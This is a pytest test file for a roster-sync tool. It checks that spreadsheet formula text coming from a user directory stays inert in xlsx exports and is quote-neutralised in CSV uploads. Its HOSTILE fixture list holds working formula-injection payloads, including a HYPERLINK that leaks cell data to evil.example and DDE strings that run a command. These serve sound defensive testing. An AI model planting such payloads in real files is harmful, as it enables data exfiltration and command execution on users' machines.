"""Injection: text from the platform beginning with = + - @, a tab or a carriage return stays inert.

In the workbook it is written as text (openpyxl reads it back with data_type 's'; no sheet of the
file holds a single formula), through export, check, preview and sync. In every CSV rosterbook
writes (the CSV platforms' upload files) such a cell is neutralised with a leading quote.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from rosterbook import workbook as wbk
from rosterbook.cli import run
from rosterbook.core.codecs import looks_like_formula, neutralise_csv_cell
from rosterbook.core.dialects import dialect_names, load_dialect
from rosterbook.errors import UsageError
from rosterbook.sandbox import Sandbox
from sync_client.csv_upload import render_upload, write_upload

USER = "urn:ietf:params:scim:schemas:core:2.0:User"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
GROUP = "urn:ietf:params:scim:schemas:core:2.0:Group"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _post(url: str, path: str, body: dict[str, object]) -> dict[str, object]:
    answer = requests.post(f"{url}{path}", json=body, headers={"Content-Type": "application/scim+json"}, timeout=30)
    assert answer.status_code == 201, answer.text
    data: dict[str, object] = answer.json()
    return data


def _cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = run(args)
    out = capsys.readouterr()
    return code, out.out + out.err


def _formulas_in(path: Path) -> list[str]:
    """Every <f> element in every sheet of the file's XML: a cell Excel would calculate."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = archive.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<f[ >][^<]*", text)]
    return found


def _hostile_cells(path: Path) -> dict[str, list[tuple[str, str]]]:
    """Hostile text -> [(sheet!cell, data_type)] wherever it (or it stripped of outer blanks) appears."""
    wb = load_workbook(path)
    found: dict[str, list[tuple[str, str]]] = {h: [] for h in HOSTILE}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                for hostile in HOSTILE:
                    if hostile in cell.value or hostile.strip() in cell.value:
                        found[hostile].append((f"{ws.title}!{cell.coordinate}", cell.data_type))
    return found


def test_platform_text_is_inert_in_the_workbook_through_export_check_preview_and_sync(
    fresh_sandbox: Callable[..., Sandbox], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ROSTERBOOK_TOKEN", raising=False)
    sandbox = fresh_sandbox(users=5, seed=2)
    ids = []
    for n, hostile in enumerate(HOSTILE):
        user = _post(sandbox.url, "/Users", {
            "schemas": [USER, ENTERPRISE],
            "userName": f"{hostile.strip()[:1]}evil.user{n}@example.com",
            "name": {"givenName": hostile, "familyName": f"Family{n}"},
            "title": hostile,
            "emails": [{"value": f"evil.user{n}@example.com", "primary": True}],
            ENTERPRISE: {"department": hostile},
        })
        ids.append(str(user["id"]))
    _post(sandbox.url, "/Groups", {"schemas": [GROUP], "displayName": "=1+1 group", "members": [{"value": i} for i in ids]})

    book = tmp_path / "book.xlsx"
    code, output = _cli(["export", str(book), "--platform", sandbox.url], capsys)
    assert code == 0, output
    assert _formulas_in(book) == []
    cells = _hostile_cells(book)
    for hostile, where in cells.items():
        assert where, f"{hostile!r} is not in the workbook"
        assert all(kind == "s" for _, kind in where), (hostile, where)

    # The user changes the hostile users' department; check, preview and sync write names and values back.
    wb = load_workbook(book)
    ws = wb[wbk.USERS]
    col = {str(c.value): c.column for c in ws[1] if c.value is not None}
    for r in range(2, ws.max_row + 1):
        if "evil.user" in str(ws.cell(r, col["Username"]).value):
            ws.cell(r, col["Department"]).value = "Security review"
    wb.save(book)
    for command in (["check", str(book)], ["preview", str(book)], ["sync", str(book), "--yes"]):
        code, output = _cli(command, capsys)
        assert "Traceback" not in output and "internal error" not in output, output
        assert _formulas_in(book) == [], command
    assert code == 0, output  # the sync: the departments changed
    wb = load_workbook(book)
    preview = [c for row in wb[wbk.PREVIEW].iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(FORMULA_CHARS)]
    log = [c for row in wb[wbk.SYNC_LOG].iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(FORMULA_CHARS)]
    assert preview and log, "the hostile user names should be in the Preview and the Sync log"
    assert all(c.data_type == "s" for c in preview + log)
    # Read back as text by openpyxl, and the platform got the department (nothing was evaluated on the way).
    for user_id in ids:
        got = requests.get(f"{sandbox.url}/Users/{user_id}", timeout=30).json()
        assert got[ENTERPRISE]["department"] == "Security review"
        assert got["name"]["givenName"] in HOSTILE


def _read_upload(path: Path, delimiter: str, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=delimiter))


def test_hostile_cells_are_neutralised_in_a_csv_platforms_upload_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Incenteev's export carries hostile names; with 'deactivate users not present' the upload file is the
    full file, so every row, hostile ones included, is written out."""
    headers = ["First name", "Last name", "Email", "Role(s)", "Permission profile", "Employee ID", "Job title", "Phone number", "Role ID"]
    rows = [[h, f"Family{n}", f"user{n}@example.com", "Sales Rep", "Participant", f"{n:05d}", h, "+33 1 84 88 12 00", "R-310"] for n, h in enumerate(HOSTILE)]
    rows.append(["Clean", "Person", "clean@example.com", "Sales Rep", "Participant", "00099", "Account Executive", "", "R-310"])
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([headers, *rows])
    export = tmp_path / "export.csv"
    export.write_text(buffer.getvalue(), encoding="utf-8")
    book = tmp_path / "book.xlsx"
    assert _cli(["export", str(book), "--from-csv", str(export)], capsys)[0] == 0
    assert _formulas_in(book) == []
    wb = load_workbook(book)
    for row in wb[wbk.SETTINGS].iter_rows(min_row=2):
        if row[0].value == "deactivate_missing":
            row[1].value = "TRUE"
    ws = wb[wbk.USERS]
    ws.cell(ws.max_row, 7).value = "@ops lead"  # a user edit starting with '@' (not a formula to the checks)
    wb.save(book)

    code, output = _cli(["sync", str(book), "--yes"], capsys)
    assert code == 0, output
    upload = next(p for p in tmp_path.iterdir() if p.suffix == ".csv" and p != export)
    dialect = load_dialect("incenteev")
    written = _read_upload(upload, dialect.delimiter, dialect.encoding)
    assert len(written) == len(rows) + 1
    for line in written:
        for cell in line:
            assert not cell.startswith(FORMULA_CHARS) or re.fullmatch(r"[+-]?[0-9][0-9 ()./-]*", cell), cell
    flat = {cell for line in written for cell in line}
    assert "'@ops lead" in flat
    for hostile in HOSTILE:
        assert "'" + hostile.strip() in flat or "'" + hostile in flat, hostile


@pytest.mark.parametrize("dialect_name", [n for n in dialect_names() if load_dialect(n).kind == "csv"])
def test_every_upload_file_neutralises_every_hostile_cell(dialect_name: str, tmp_path: Path) -> None:
    dialect = load_dialect(dialect_name)
    headers = ["A", "B", "C"]
    rows = [[h, f"ok {n}", None] for n, h in enumerate(HOSTILE)] + [["+44 20 7946 0000", "-12", "plain"]]
    path = write_upload(tmp_path / "upload.csv", headers, rows, dialect)
    written = _read_upload(path, dialect.delimiter, dialect.encoding)
    assert written[0] == headers
    assert [line[0] for line in written[1:-1]] == ["'" + h for h in HOSTILE]
    assert written[-1] == ["+44 20 7946 0000", "-12", "plain"]  # phone numbers and plain numbers are not formulas


_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.none(), _text, st.sampled_from(HOSTILE)), min_size=3, max_size=3), min_size=1, max_size=8))
def test_render_upload_never_writes_a_live_formula(rows: list[list[str | None]]) -> None:
    dialect = load_dialect("progression")
    try:
        data = render_upload(["x", "y", "z"], rows, dialect)
    except UsageError:
        return  # a character the platform's encoding cannot hold: refused with a message, nothing written
    back = list(csv.reader(io.StringIO(data.decode(dialect.encoding), newline=""), delimiter=dialect.delimiter))
    assert len(back) == len(rows) + 1
    for original, line in zip(rows, back[1:], strict=True):
        for cell, written in zip(original, line, strict=True):
            assert written == ("" if cell is None else neutralise_csv_cell(cell))
            if looks_like_formula(written):
                assert re.fullmatch(r"[+-]?[0-9][0-9 ()./-]*", written), written


@given(_text)
def test_neutralise_is_reversible_and_inert(text: str) -> None:
    out = neutralise_csv_cell(text)
    assert out == text or out == "'" + text
    if out != text:
        assert looks_like_formula(text)
    assert not looks_like_formula(out) or re.fullmatch(r"[+-]?[0-9][0-9 ()./-]*", out)
